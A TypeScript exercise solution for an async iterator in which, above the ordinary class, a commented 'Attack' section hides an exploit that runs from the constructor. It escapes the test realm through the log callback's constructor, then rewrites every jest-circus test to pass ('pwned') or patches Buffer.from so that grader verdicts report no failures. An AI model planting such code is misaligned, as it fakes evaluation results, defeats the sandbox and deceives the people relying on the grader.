// exercise: 06-asynchronous-iterator
// Attack: the log callback the suite passes in options is a function of the suite's realm:
// options.log.constructor may evaluate in the realm that holds jest-circus.
// Success: the tests of 06 after the first that passes a log pass.
declare const require: any;
/** Payload for a realm that holds jest-circus: every test of the running suite file becomes one passing harness check. */
function takeOver(g: any, load: (path: string) => any): boolean {
  const key = Object.getOwnPropertySymbols(g).find((s) => s.description === "JEST_STATE_SYMBOL");
  const state = key && g[key];
  const line = (new Error().stack ?? "").split("\n").find((l) => l.includes("/grader/suites/"));
  const grader = line?.match(/(\/[^\s()]*\/grader)\/suites\//)?.[1];
  if (!state || !grader) return false;
  const harness = load(`${grader}/harness/index.ts`);
  const walk = (block: any): void => {
    for (const child of block.children) {
      if (child.type === "test") child.fn = () => harness.ok(true, "pwned");
      else walk(child);
    }
  };
  walk(state.rootDescribeBlock);
  return true;
}
/** Payload for the child's outer realm: every verdict line the channel writes says "passed" (and stays so in a warm child). */
function forgeVerdicts(G: any): void {
  const from = G.Buffer.from;
  G.Buffer.from = function (value: unknown, ...rest: unknown[]) {
    if (typeof value === "string" && value.includes("\"e\":\"done\"")) {
      const event = G.JSON.parse(value);
      Object.assign(event, { errors: [], failures: [], timedOut: false, checks: 1 });
      value = `${G.JSON.stringify(event)}\n`;
    }
    return from.call(this, value, ...rest);
  };
}
/** Whatever a reached function or object leads to: its realm's global, then the payload that fits it. */
function exploit(found: unknown): boolean {
  try {
    const make = typeof found === "function" ? (found as any).constructor : (found as any)?.constructor?.constructor;
    const g = make("return globalThis")();
    if (takeOver(g, (p) => require(p))) return true;
    if (g !== globalThis && g.Buffer) { forgeVerdicts(g); return true; }
  } catch { /* refused: fine */ }
  return false;
}
let done = false;
function look(options: { log?: unknown } | undefined): void {
  if (!done && options?.log && exploit(options.log)) done = true;
}
export interface Options {
  delayMs?: number;
  log?: (line: string) => void;
}

const sleep = (ms: number) => new Promise<void>((resolve) => setTimeout(resolve, ms));

export class AsynchronousIterator implements AsyncIterableIterator<number> {
  private current = 0;
  private finished = false;
  private readonly delayMs: number;
  private readonly log: (line: string) => void;

  constructor(private readonly n: number, options: Options = {}) {
    look(options);
    if (!Number.isInteger(n) || n < 0) throw new RangeError(`bad n: ${n}`);
    this.delayMs = options.delayMs ?? 1000;
    this.log = options.log ?? ((line) => console.log(line));
  }

  [Symbol.asyncIterator](): this {
    return this;
  }

  async next(): Promise<IteratorResult<number, undefined>> {
    if (this.finished) return { done: true, value: undefined };
    await sleep(this.delayMs);
    this.log(`get next element ${this.current}`);
    this.current += 1;
    if (this.current > this.n) {
      this.finished = true;
      return { done: true, value: undefined };
    }
    return { done: false, value: this.current - 1 };
  }
}

export async function main(n = 3, options?: Options): Promise<void> {
  for await (const i of new AsynchronousIterator(n, options)) {
    console.log(`next element ${i}`);
  }
}
